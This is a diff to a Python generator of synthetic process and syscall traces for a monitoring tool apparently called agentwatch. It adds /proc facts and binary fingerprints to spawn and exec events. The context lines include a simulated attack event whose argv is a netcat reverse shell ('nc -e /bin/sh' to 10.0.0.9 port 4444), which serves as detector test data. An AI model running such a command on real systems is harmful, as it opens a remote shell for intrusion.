@@ -31,7 +31,15 @@ AW = os.path.join(ROOT, ".build/release/agentwatch")
 WALL0 = 1_795_881_030_215_206_113
 # Rounds (about 23 events each) between two bursts of attacks.
 ATTACK_EVERY = 500
-TRACE_VERSION = 2
+TRACE_VERSION = 3
+# What the live writer puts after every spawn and exec (/proc facts), and after an exec the image's fingerprint.
+FACTS = {"pgid": 1000, "sid": 1000, "cap_eff": "0x0", "cap_prm": "0x0", "cap_inh": "0x0", "loginuid": 1000}
+
+
+def binary(exe):
+    digest = hashlib.sha256(exe.encode()).hexdigest()
+    return {"sha256": digest, "format": "elf64", "machine": "x86_64", "build_id": digest[:40], "static": False,
+            "stripped": True, "interpreter": "/lib64/ld-linux-x86-64.so.2", "markers": [], "size": 125640}
 
 
 def dns_answer(name, ip):
@@ -102,7 +110,7 @@ def generate(path, n):
         # A netcat handing a shell to a connection: killed at execve entry.
         pid += 1
         e = base(pid, "spawn")
-        e.update({"ppid": root, "via": "fork", "exe": "/usr/bin/python3", "argv": ["python3", "agent.py"], "cwd": "/work", "uid": 1000, "comm": "python3"})
+        e.update({"ppid": root, "via": "fork", "exe": "/usr/bin/python3", "argv": ["python3", "agent.py"], "cwd": "/work", "uid": 1000, "comm": "python3", **FACTS})
         line(e)
         argv = ["nc", "-e", "/bin/sh", "10.0.0.9", "4444"]
         e = base(pid, "syscall")
@@ -114,7 +122,7 @@ def generate(path, n):
 
     root = pid
     e = base(root, "spawn")
-    e.update({"ppid": 1, "via": "root", "exe": "/usr/bin/python3", "argv": ["python3", "agent.py"], "cwd": "/work", "uid": 1000, "comm": "python3"})
+    e.update({"ppid": 1, "via": "root", "exe": "/usr/bin/python3", "argv": ["python3", "agent.py"], "cwd": "/work", "uid": 1000, "comm": "python3", **FACTS})
     line(e)
     tools = [("/usr/bin/git", ["git", "status"]), ("/usr/bin/cc", ["cc", "-O2", "-c", "main.c"]),
              ("/usr/bin/grep", ["grep", "-rn", "TODO", "src"]), ("/usr/bin/ls", ["ls", "-la"]),
@@ -139,13 +147,14 @@ def generate(path, n):
         pid += 1
         exe, argv = tools[i % len(tools)]
         e = base(pid, "spawn")
-        e.update({"ppid": root, "via": "fork", "exe": "/usr/bin/python3", "argv": ["python3", "agent.py"], "cwd": "/work", "uid": 1000, "comm": "python3"})
+        e.update({"ppid": root, "via": "fork", "exe": "/usr/bin/python3", "argv": ["python3", "agent.py"], "cwd": "/work", "uid": 1000, "comm": "python3", **FACTS})
         line(e)
         entry = seq + 1
         e = base(pid, "syscall")
         e.update({"sc": "execve", "nr": 59, "args": {"filename": {"path": exe}, "argv": {"strv": argv}, "envp": {"hex": "0x7ffd0000"}}, "ret": 0, "xseq": entry + 2})
         x = base(pid, "exec")
-        x.update({"exe": exe, "path": exe, "argv": argv, "cwd": "/work", "comm": os.path.basename(exe)})
+        x.update({"exe": exe, "path": exe, "argv": argv, "cwd": "/work", "comm": os.path.basename(exe), **FACTS,
+                  "binary": binary(exe)})
         bump()
         line(x)
         line(e)
